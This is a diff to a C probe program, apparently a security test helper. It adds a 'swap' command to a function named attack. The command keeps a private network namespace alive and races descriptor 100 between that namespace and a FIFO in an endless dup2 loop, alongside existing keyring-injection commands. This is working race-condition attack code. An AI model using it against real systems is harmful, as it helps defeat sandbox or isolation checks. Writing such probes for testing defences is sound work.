@@ -5,9 +5,11 @@
 
 #include <fcntl.h>
 #include <linux/keyctl.h>
+#include <sched.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <unistd.h>
 
@@ -51,6 +53,35 @@ static int execute_with_key(char **words)
     return 94;
 }
 
+/*
+ * swap FIFO: hold a network namespace in which nobody lives, by a descriptor that is again and
+ * again a FIFO without a writer
+ */
+static int swap_descriptors(const char *path)
+{
+    enum { SWAPPED = 100 };
+    int home = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
+    int fifo;
+    int held;
+
+    if (unshare(CLONE_NEWNET) < 0 || mkfifo(path, 0600) < 0) {
+        perror("probe: swap");
+        return 94;
+    }
+    held = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
+    fifo = open(path, O_PATH | O_CLOEXEC);
+    if (held < 0 || fifo < 0 || setns(home, CLONE_NEWNET) < 0)
+        return 94;
+    dup2(held, SWAPPED);
+    close(held);
+    held = fcntl(SWAPPED, F_DUPFD_CLOEXEC, SWAPPED + 1);
+    dprintf(STDOUT_FILENO, "swapping\n");
+    for (;;) {
+        dup2(fifo, SWAPPED);
+        dup2(held, SWAPPED);
+    }
+}
+
 /* find-key NAME: whether it is in the session keyring. */
 static int find_key(const char *name)
 {
@@ -68,6 +99,8 @@ int attack(char **words)
         return inject(words[1]);
     if (strcmp(words[0], "with-key") == 0 && words[2] != NULL)
         return execute_with_key(words + 1);
+    if (strcmp(words[0], "swap") == 0)
+        return swap_descriptors(words[1]);
     if (strcmp(words[0], "find-key") == 0)
         return find_key(words[1]);
     return -1;
